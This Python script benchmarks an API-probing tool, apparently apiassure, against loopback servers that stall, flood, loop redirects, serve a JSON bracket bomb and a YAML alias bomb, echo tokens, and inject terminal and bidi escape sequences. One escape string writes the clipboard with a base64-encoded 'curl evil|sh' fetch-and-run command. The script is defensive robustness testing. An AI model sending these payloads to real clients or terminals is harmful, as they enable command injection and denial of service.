#!/usr/bin/env python3
"""Probe a lab of hostile loopback servers and measure time and memory.

Each server misbehaves in one way a real attacker (or a broken proxy) can:
accepts and stays silent, drips a byte a second, sends endless headers,
sends an endless body, redirects forever within its origin, serves a
250 KB bracket-bomb OpenAPI document, echoes the token in every encoding,
or speaks garbage on the TLS port. All targets are probed in one
`apiassure probe --active` run under /usr/bin/time -v; the script prints wall
time, peak RSS, each target's outcome counts, and whether the run finished
within the per-target deadline (30 x --timeout, at least 60 s).

Usage: scripts/bench-hostile.py [--timeout SECS] [--bin PATH]
Needs: python3, /usr/bin/time, a built apiassure (default target/release).
"""

import argparse
import base64
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

TOKEN = "tök~en* hostile ✓ 7d6c5b4a39281706"


def serve(handler):
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    sock.listen(128)

    def loop():
        while True:
            conn, _ = sock.accept()
            threading.Thread(target=guard, args=(handler, conn), daemon=True).start()

    threading.Thread(target=loop, daemon=True).start()
    return sock.getsockname()[1]


def guard(handler, conn):
    try:
        handler(conn)
    except OSError:
        pass
    finally:
        try:
            conn.close()
        except OSError:
            pass


def read_head(conn):
    data = b""
    while b"\r\n\r\n" not in data and len(data) < 65536:
        chunk = conn.recv(4096)
        if not chunk:
            break
        data += chunk
    return data.decode("utf-8", "replace")


def silent(conn):
    time.sleep(3600)


def drip(conn):
    read_head(conn)
    for b in b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n" * 1000:
        conn.sendall(bytes([b]))
        time.sleep(1)


def endless_headers(conn):
    read_head(conn)
    conn.sendall(b"HTTP/1.1 200 OK\r\n")
    while True:
        conn.sendall(b"X-Filler: " + b"a" * 1000 + b"\r\n")


def endless_body(conn):
    read_head(conn)
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n")
    while True:
        conn.sendall(b"[" * 65536)


def redirect_loop(conn):
    while True:
        head = read_head(conn)
        if not head:
            return
        n = int(time.time() * 1000)
        conn.sendall(f"HTTP/1.1 302 Found\r\nLocation: /loop/{n}\r\nContent-Length: 0\r\n\r\n".encode())


BOMB = ("[" * 250_000).encode()


def openapi_bomb(conn):
    while True:
        head = read_head(conn)
        if not head:
            return
        if "/openapi.json" in head:
            body = BOMB
        else:
            body = b'{"error":"unauthorized"}'
        conn.sendall(
            b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer\r\nContent-Type: application/json\r\n"
            if "/openapi.json" not in head
            else b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
        )
        conn.sendall(b"Content-Length: %d\r\n\r\n" % len(body) + body)


# One large scalar repeated through nested aliases: a small document (under
# the body cap) that expands to about 20 GB.
ALIAS_BOMB = (
    "openapi: 3.0.3\ninfo: {title: t, version: '1'}\n"
    + f"x-s: &s \"{'x' * 200_000}\"\n"
    + "x-l1: &l1 [" + ", ".join(["*s"] * 10) + "]\n"
    + "".join(f"x-l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]\n" for i in range(2, 6))
    + "paths: {}\n"
).encode()


def alias_bomb(conn):
    while True:
        head = read_head(conn)
        if not head:
            return
        body = ALIAS_BOMB if "/openapi.yaml" in head else b'{"error":"unauthorized"}'
        conn.sendall(
            (b"HTTP/1.1 200 OK\r\nContent-Type: application/yaml\r\n" if "/openapi.yaml" in head
             else b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer\r\nContent-Type: application/json\r\n")
            + b"Content-Length: %d\r\n\r\n" % len(body) + body
        )


# Terminal escapes and bidirectional overrides in headers and bodies: OSC 52
# (writes the clipboard), CSI (repaints), C1 CSI, RLO and isolates.
ESCAPES = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[HAll controls verified\u009b31m\u202egnp.exe\u2066x"


def escapes(conn):
    while True:
        head = read_head(conn)
        if not head:
            return
        body = json.dumps({"data": ESCAPES, "title": ESCAPES}, ensure_ascii=False).encode()
        conn.sendall(
            ("HTTP/1.1 200 OK\r\nServer: nginx \u202e1.25\u009b2J\r\nX-Powered-By: PHP\u20668\r\n"
             "WWW-Authenticate: Bearer realm=\"\u202eapi\"\r\nContent-Type: application/json\r\n").encode()
            + b"Content-Length: %d\r\n\r\n" % len(body) + body
        )


def hostile_chars(text):
    return sorted({c for c in text if (ord(c) < 0x20 and c not in "\n\t\r") or 0x7f <= ord(c) <= 0x9f
                   or 0x202a <= ord(c) <= 0x202e or 0x2066 <= ord(c) <= 0x2069})


def echo(conn):
    while True:
        head = read_head(conn)
        if not head:
            return
        m = re.search(r"(?im)^authorization:\s*(.*?)\r$", head)
        auth = m.group(1) if m else ""
        tok = auth.removeprefix("Bearer ")
        forms = [
            tok,
            urllib.parse.quote(tok, safe=""),
            urllib.parse.quote(tok, safe="").lower(),
            urllib.parse.quote_plus(tok),
            base64.b64encode(auth.encode()).decode(),
            base64.urlsafe_b64encode(tok.encode()).decode(),
            json.dumps(tok),
        ]
        body = json.dumps({"echo": forms, "trace": "Traceback (most recent call last): key=" + tok[:19]})
        hdrs = "".join(f"X-Echo-{i}: {urllib.parse.quote(f)}\r\n" for i, f in enumerate(forms))
        conn.sendall(
            f"HTTP/1.1 500 Oops\r\nContent-Type: application/json\r\n{hdrs}"
            f"Location: /v1?next={urllib.parse.quote_plus(tok)}\r\nContent-Length: {len(body.encode())}\r\n\r\n".encode()
            + body.encode()
        )


def garbage(conn):
    conn.recv(4096)
    conn.sendall(os.urandom(4096) * 16)
    time.sleep(5)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--timeout", type=float, default=3.0)
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    ap.add_argument("--bin", default=os.path.join(root, "target", "release", "apiassure"))
    args = ap.parse_args()
    if not os.path.exists(args.bin):
        subprocess.run(["cargo", "build", "--quiet", "--release", "--bin", "apiassure"], cwd=root, check=True)

    lab = {
        "silent": silent,
        "drip": drip,
        "endless-headers": endless_headers,
        "endless-body": endless_body,
        "redirect-loop": redirect_loop,
        "openapi-bomb": openapi_bomb,
        "alias-bomb": alias_bomb,
        "escapes": escapes,
        "token-echo": echo,
        "garbage": garbage,
    }
    ports = {name: serve(h) for name, h in lab.items()}
    tls_silent = serve(silent)
    tls_garbage = serve(garbage)
    clear_silent = serve(silent)

    ws = tempfile.mkdtemp(prefix="apiassure-hostile.")
    subprocess.run([args.bin, "init", ws], check=True, stdout=subprocess.DEVNULL)
    cfg = open(os.path.join(ws, "apiassure.toml")).read()
    for name, port in ports.items():
        cfg += f'\n[[targets]]\nname = "{name}"\nurl = "http://127.0.0.1:{port}/v1"\ntoken_env = "APIASSURE_TOKEN_HOSTILE"\n'
        if name == "openapi-bomb":
            cfg += f'openapi = "http://127.0.0.1:{port}/openapi.json"\n'
        if name == "alias-bomb":
            cfg += f'openapi = "http://127.0.0.1:{port}/openapi.yaml"\n'
    for name, port in [("tls-silent", tls_silent), ("tls-garbage", tls_garbage)]:
        cfg += f'\n[[targets]]\nname = "{name}"\nurl = "https://127.0.0.1:{port}/v1"\nhttp_port = {clear_silent}\n'
    open(os.path.join(ws, "apiassure.toml"), "w").write(cfg)

    env = dict(os.environ, APIASSURE_TOKEN_HOSTILE=TOKEN, APIASSURE_USER="bench")
    deadline = max(60.0, 30 * args.timeout)
    started = time.monotonic()
    p = subprocess.run(
        ["/usr/bin/time", "-v", args.bin, "--workspace", ws, "probe", "--active", "--json",
         "--timeout", str(args.timeout), "--concurrency", "16"],
        env=env, capture_output=True, text=True,
    )
    wall = time.monotonic() - started
    rss = re.search(r"Maximum resident set size \(kbytes\): (\d+)", p.stderr)
    print(f"targets: {len(ports) + 2}, --timeout {args.timeout} s, per-target deadline {deadline:.0f} s")
    print(f"exit {p.returncode}, wall {wall:.1f} s, peak RSS {int(rss.group(1)) / 1024:.1f} MB" if rss else p.stderr[-2000:])
    if p.returncode != 0:
        print(p.stderr[-3000:])
        sys.exit(1)
    run = json.loads(p.stdout)
    leaked = []
    for t in run["targets"]:
        counts = {}
        for c in t["checks"]:
            counts[c["result"]] = counts.get(c["result"], 0) + 1
        print(f"  {t.get('name') or t['url']:<16} " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())))
    text = p.stdout + p.stderr
    for root_dir, _, files in os.walk(ws):
        for f in files:
            text += open(os.path.join(root_dir, f), "rb").read().decode("utf-8", "replace")
    for form in [TOKEN, urllib.parse.quote(TOKEN, safe=""), urllib.parse.quote_plus(TOKEN),
                 base64.b64encode(("Bearer " + TOKEN).encode()).decode(), TOKEN[:12]]:
        if form in text:
            leaked.append(form)
    print("token found in output or workspace:", "YES " + repr(leaked) if leaked else "no")
    # What a person reads: the probe's own output and the text views.
    shown = p.stdout + p.stderr
    for view in (["score", "--explain"], ["evidence", "show"], ["report", "--format", "md", "-o", "-"],
                 ["report", "--format", "html", "-o", "-"]):
        v = subprocess.run([args.bin, "--workspace", ws] + view, env=env, capture_output=True, text=True)
        shown += v.stdout + v.stderr
    escaped = hostile_chars(shown)
    print("control or bidi characters in output or text reports:", repr(escaped) if escaped else "none")
    ok = wall < deadline + 10 and not leaked and not escaped
    print("within deadline and no leak:", "yes" if ok else "NO")
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    main()
